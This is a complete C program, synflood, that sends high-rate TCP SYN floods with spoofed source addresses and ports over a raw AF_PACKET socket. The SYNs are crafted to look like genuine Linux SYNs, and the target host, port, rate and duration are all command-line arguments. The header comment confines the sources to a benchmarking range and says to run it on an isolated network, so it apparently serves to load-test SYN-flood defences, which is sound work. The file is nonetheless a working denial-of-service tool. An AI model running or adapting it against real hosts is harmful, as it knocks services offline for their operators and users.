/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A SYN flood from addresses nobody has: over AF_PACKET, paced, each SYN of another address and
 * port.
 *
 *     synflood IFACE MAC HOST PORT RATE SECONDS [COUNT]
 *
 * Sends RATE SYNs a second (averaged: time lost is made up for) to HOST, an IPv4 address behind
 * MAC, until SECONDS are over, COUNT are sent or SIGTERM comes. Sources are in 198.18.0.0/15, which
 * is set apart for such tests (RFC 2544), so run it where no packet can get out. A SYN looks like
 * one of Linux: MSS, SACK-permitted, timestamps, window scale. Says
 *
 *     sent N in S s: R/s
 */
#define _GNU_SOURCE /* sendmmsg() */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

/* Frames in one system call. */
#define BATCH 64
/* Ethernet, IPv4, TCP with 20 bytes of options. */
#define FRAME_LEN (14 + 20 + 40)
#define SOURCES   UINT32_C(0xc6120000) /* 198.18.0.0/15 */

struct flood {
	int sock;
	uint32_t host;
	uint16_t port;
	uint32_t made; /* SYNs written so far */
	struct mmsghdr msg[BATCH];
	struct iovec iov[BATCH];
	uint8_t frame[BATCH][FRAME_LEN];
};

static volatile sig_atomic_t stopping;

static void
stop(int sig)
{
	(void)sig;
	stopping = 1;
}

static void
put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void
put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint32_t
sum(const uint8_t *p, unsigned len, uint32_t s)
{
	for (unsigned i = 0; i < len; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	return s;
}

static uint16_t
fold(uint32_t s)
{
	s = (s >> 16) + (s & 0xffff);
	return (uint16_t) ~((s >> 16) + s);
}

static void
make_template(uint8_t *f, const uint8_t mac[6], uint32_t host, uint16_t port)
{
	static const uint8_t options[20] = {
		2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
	uint8_t *ip = f + 14, *tcp = ip + 20;

	memset(f, 0, FRAME_LEN);
	memcpy(f, mac, 6);
	memcpy(f + 6, "\x02\x00\x00\x00\x00\x66", 6); /* answers are for no interface */
	put16(f + 12, ETHERTYPE_IP);
	ip[0] = 0x45;
	put16(ip + 2, 60);
	put16(ip + 6, 0x4000);
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	put32(ip + 16, host);
	put16(tcp + 2, port);
	tcp[12] = 0xa0;
	tcp[13] = 2; /* SYN */
	put16(tcp + 14, 64240);
	memcpy(tcp + 20, options, sizeof(options));
}

/* The next SYN: 32 bits that run through all values in an order without pattern. */
static void
make_syn(struct flood *f, uint8_t *frame)
{
	uint32_t x = ++f->made * UINT32_C(2654435761);
	uint8_t *ip = frame + 14, *tcp = ip + 20;

	put32(ip + 12, SOURCES + (x >> 15));
	put16(tcp, 1024 + (x & 0x7fff));
	put32(tcp + 4, x ^ UINT32_C(0x5bd1e995));
	put16(ip + 10, 0);
	put16(ip + 10, fold(sum(ip, 20, 0)));
	put16(tcp + 16, 0);
	put16(tcp + 16, fold(sum(tcp, 40, sum(ip + 12, 8, IPPROTO_TCP + 40))));
}

/* Sends up to n. Returns how many the kernel took; -1 when it never will. */
static int
send_some(struct flood *f, unsigned n)
{
	int sent;

	for (unsigned i = 0; i < n; i++)
		make_syn(f, f->frame[i]);
	sent = sendmmsg(f->sock, f->msg, n, 0);
	if (sent < 0) {
		if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
			perror("synflood: sendmmsg");
			return -1;
		}
		sent = 0;
	}
	f->made -= n - (unsigned)sent;
	return sent;
}

static double
seconds(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

static bool
open_wire(struct flood *f, const char *iface, const uint8_t mac[6])
{
	struct sockaddr_ll to = {
		.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(iface)};

	/* Protocol 0: nothing is received. */
	f->sock = socket(AF_PACKET, SOCK_RAW, 0);
	if (f->sock < 0 || to.sll_ifindex == 0 ||
		bind(f->sock, (struct sockaddr *)&to, sizeof(to)) != 0) {
		perror("synflood: socket");
		return false;
	}
	for (unsigned i = 0; i < BATCH; i++) {
		make_template(f->frame[i], mac, f->host, f->port);
		f->iov[i] = (struct iovec){f->frame[i], FRAME_LEN};
		f->msg[i].msg_hdr.msg_iov = &f->iov[i];
		f->msg[i].msg_hdr.msg_iovlen = 1;
	}
	return true;
}

/* Sends what is due, then sleeps a little. */
static bool
run(struct flood *f, double rate, double length, double most)
{
	const struct timespec pause = {.tv_nsec = 500000};
	double start = seconds(), now = start;

	while (!stopping && now - start < length && f->made < most) {
		double due = (now - start) * rate;

		if (due > most)
			due = most;
		while (due - f->made >= 1) {
			unsigned n = (unsigned)(due - f->made);
			int sent = send_some(f, n < BATCH ? n : BATCH);

			if (sent < 0)
				return false;
			if (sent == 0)
				break;
		}
		nanosleep(&pause, NULL);
		now = seconds();
	}
	printf("sent %u in %.2f s: %.0f/s\n", f->made, now - start, f->made / (now - start));
	return true;
}

int
main(int argc, char **argv)
{
	static struct flood f;
	struct in_addr host;
	unsigned m[6];
	uint8_t mac[6];

	if (argc < 7 || argc > 8 || inet_pton(AF_INET, argv[3], &host) != 1 ||
		sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) !=
			6) {
		fprintf(stderr, "usage: synflood IFACE MAC HOST PORT RATE SECONDS [COUNT]\n");
		return 2;
	}
	for (unsigned i = 0; i < 6; i++)
		mac[i] = (uint8_t)m[i];
	signal(SIGTERM, stop);
	signal(SIGINT, stop);
	f.host = ntohl(host.s_addr);
	f.port = (uint16_t)atoi(argv[4]);
	if (!open_wire(&f, argv[1], mac))
		return 1;
	return run(&f, atof(argv[5]), atof(argv[6]), argc > 7 ? atof(argv[7]) : 4e9) ? 0 : 1;
}
